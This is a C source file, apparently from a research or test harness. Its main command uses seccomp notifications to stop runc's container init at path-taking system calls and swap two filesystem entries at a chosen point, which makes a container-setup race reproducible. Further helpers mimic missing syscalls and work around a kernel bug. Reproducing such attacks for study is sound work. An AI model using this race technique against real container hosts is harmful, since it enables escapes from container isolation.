/*
 * Commands that run another under a seccomp filter. swap-at stops the init of
 * the container at each system call that takes a path, to exchange two entries
 * at a chosen one: a race that comes out the same each time.
 */
#define _GNU_SOURCE
#include <errno.h>
#include <fcntl.h>
#include <linux/bpf.h>
#include <linux/filter.h>
#include <linux/seccomp.h>
#include <poll.h>
#include <stdbool.h>
#include <stddef.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/ioctl.h>
#include <sys/prctl.h>
#include <sys/socket.h>
#include <sys/syscall.h>
#include <sys/wait.h>
#include <unistd.h>

#include "attack.h"

/* The calls by which a path can be resolved, or a name be made in a directory. */
static const unsigned stops[] = {
	SYS_openat,	SYS_openat2,  SYS_mkdirat,    SYS_mknodat,    SYS_symlinkat,
	SYS_unlinkat,	SYS_fchownat, SYS_mount,      SYS_move_mount, SYS_open_tree,
	SYS_pivot_root, SYS_chdir,    SYS_newfstatat, SYS_readlinkat,
};
#define STOPS (sizeof(stops) / sizeof(stops[0]))

#define WORD(field) offsetof(struct seccomp_data, field)

static int load(struct sock_filter *code, size_t length, unsigned flags)
{
	struct sock_fprog prog = { (unsigned short)length, code };

	return (int)syscall(SYS_seccomp, SECCOMP_SET_MODE_FILTER, flags, &prog);
}

/* Installs a filter that tells of the stops, and returns the listener. */
static int listen_for_stops(void)
{
	struct sock_filter code[STOPS + 3];
	size_t n = 0;

	code[n++] = (struct sock_filter)BPF_STMT(BPF_LD | BPF_W | BPF_ABS, WORD(nr));
	for (size_t i = 0; i < STOPS; i++)
		code[n++] = (struct sock_filter)BPF_JUMP(BPF_JMP | BPF_JEQ | BPF_K, stops[i],
							 (unsigned char)(STOPS - i), 0);
	code[n++] = (struct sock_filter)BPF_STMT(BPF_RET | BPF_K, SECCOMP_RET_ALLOW);
	code[n++] = (struct sock_filter)BPF_STMT(BPF_RET | BPF_K, SECCOMP_RET_USER_NOTIF);
	return load(code, n, SECCOMP_FILTER_FLAG_NEW_LISTENER);
}

static void send_listener(int sock, int listener)
{
	char space[CMSG_SPACE(sizeof(int))] = { 0 };
	char byte = 0;
	struct iovec iov = { &byte, 1 };
	struct msghdr m = { .msg_iov = &iov,
			    .msg_iovlen = 1,
			    .msg_control = space,
			    .msg_controllen = sizeof(space) };
	struct cmsghdr *c = CMSG_FIRSTHDR(&m);

	c->cmsg_level = SOL_SOCKET;
	c->cmsg_type = SCM_RIGHTS;
	c->cmsg_len = CMSG_LEN(sizeof(int));
	memcpy(CMSG_DATA(c), &listener, sizeof(int));
	if (sendmsg(sock, &m, 0) < 0)
		die("sendmsg");
}

static int receive_listener(int sock)
{
	char space[CMSG_SPACE(sizeof(int))];
	char byte;
	struct iovec iov = { &byte, 1 };
	struct msghdr m = { .msg_iov = &iov,
			    .msg_iovlen = 1,
			    .msg_control = space,
			    .msg_controllen = sizeof(space) };
	int listener;

	if (recvmsg(sock, &m, MSG_CMSG_CLOEXEC) <= 0 || !CMSG_FIRSTHDR(&m))
		die("recvmsg");
	memcpy(&listener, CMSG_DATA(CMSG_FIRSTHDR(&m)), sizeof(int));
	return listener;
}

/* Starts the command under the filter. */
static pid_t start(char **command, int *listener)
{
	int pair[2];
	pid_t child;

	if (socketpair(AF_UNIX, SOCK_STREAM | SOCK_CLOEXEC, 0, pair) < 0)
		die("socketpair");
	if ((child = fork()) < 0)
		die("fork");
	if (child == 0) {
		int fd = listen_for_stops();

		if (fd < 0)
			die("seccomp");
		send_listener(pair[1], fd);
		close(fd);
		execvp(command[0], command);
		die(command[0]);
	}
	close(pair[1]);
	*listener = receive_listener(pair[0]);
	close(pair[0]);
	return child;
}

/* Tells whether a process is the init of a container, in its Go part or the C
 * part before it. */
static bool is_init(unsigned pid)
{
	char path[64], line[16] = "";
	ssize_t n;
	int fd;

	snprintf(path, sizeof(path), "/proc/%u/cmdline", pid);
	if ((fd = open(path, O_RDONLY | O_CLOEXEC)) < 0)
		return false;
	n = read(fd, line, sizeof(line));
	close(fd);
	return n >= 9 && memcmp(line, "runc\0init", 9) == 0;
}

struct plan {
	unsigned long first, second; /* when to exchange */
	const char *a, *b;
	unsigned long count;
};

/* Deals with one stop. */
static void stopped(int listener, struct plan *p)
{
	struct seccomp_notif call = { 0 };
	struct seccomp_notif_resp go = { 0 };

	if (ioctl(listener, SECCOMP_IOCTL_NOTIF_RECV, &call) < 0)
		return; /* killed meanwhile */
	if (is_init(call.pid)) {
		p->count++;
		if (p->count == p->first || p->count == p->second)
			exchange(p->a, p->b);
	}
	go.id = call.id;
	go.flags = SECCOMP_USER_NOTIF_FLAG_CONTINUE;
	ioctl(listener, SECCOMP_IOCTL_NOTIF_SEND, &go);
}

int swap_at(int argc, char **argv)
{
	struct plan p = { .first = strtoul(argv[0], NULL, 10),
			  .second = strtoul(argv[1], NULL, 10),
			  .a = argv[2],
			  .b = argv[3] };
	int listener, status = 0;
	struct pollfd fd;
	pid_t child;

	(void)argc;
	child = start(argv + 4, &listener);
	fd = (struct pollfd){ listener, POLLIN, 0 };
	/* It hangs up when the last process under the filter is gone. */
	while (poll(&fd, 1, -1) > 0 && !(fd.revents & POLLHUP))
		stopped(listener, &p);
	if (waitpid(child, &status, 0) < 0)
		die("waitpid");
	printf("stops: %lu\n", p.count);
	return WIFEXITED(status) ? WEXITSTATUS(status) : 128 + WTERMSIG(status);
}

/* The calls of the mount API and openat2: not there on an old kernel, unknown to
 * the filter of an outer sandbox. */
static const unsigned new_calls[] = {
	SYS_openat2, SYS_fsopen,    SYS_fsconfig,   SYS_fsmount,
	SYS_fspick,  SYS_open_tree, SYS_move_mount, SYS_mount_setattr,
};
#define NEW_CALLS (sizeof(new_calls) / sizeof(new_calls[0]))

int without(int argc, char **argv)
{
	struct sock_filter code[NEW_CALLS + 3];
	unsigned error = (unsigned)strtoul(argv[0], NULL, 10);
	/* A security module refuses mounts, not openat2. */
	size_t first = error == EACCES ? 1 : 0, n = 0;

	(void)argc;
	code[n++] = (struct sock_filter)BPF_STMT(BPF_LD | BPF_W | BPF_ABS, WORD(nr));
	for (size_t i = first; i < NEW_CALLS; i++)
		code[n++] = (struct sock_filter)BPF_JUMP(BPF_JMP | BPF_JEQ | BPF_K, new_calls[i],
							 (unsigned char)(NEW_CALLS - i), 0);
	code[n++] = (struct sock_filter)BPF_STMT(BPF_RET | BPF_K, SECCOMP_RET_ALLOW);
	code[n++] = (struct sock_filter)BPF_STMT(BPF_RET | BPF_K, SECCOMP_RET_ERRNO | error);
	if (load(code, n, 0) < 0)
		die("seccomp");
	execvp(argv[1], argv + 1);
	die(argv[1]);
}

/* The kernels 6.17 to 7.1 write to offset 56 of the union, whatever its size. */
#define SAFE_SIZE 64

int short_bpf(int argc, char **argv)
{
	struct sock_filter code[] = {
		BPF_STMT(BPF_LD | BPF_W | BPF_ABS, WORD(nr)),
		BPF_JUMP(BPF_JMP | BPF_JEQ | BPF_K, SYS_bpf, 0, 3),
		BPF_STMT(BPF_LD | BPF_W | BPF_ABS, WORD(args[2])), /* low half: little endian */
		BPF_JUMP(BPF_JMP | BPF_JGE | BPF_K, SAFE_SIZE, 1, 0),
		BPF_STMT(BPF_RET | BPF_K, SECCOMP_RET_KILL_PROCESS),
		BPF_STMT(BPF_RET | BPF_K, SECCOMP_RET_ALLOW),
	};

	(void)argc;
	if (load(code, sizeof(code) / sizeof(code[0]), 0) < 0)
		die("seccomp");
	execvp(argv[0], argv);
	die(argv[0]);
}
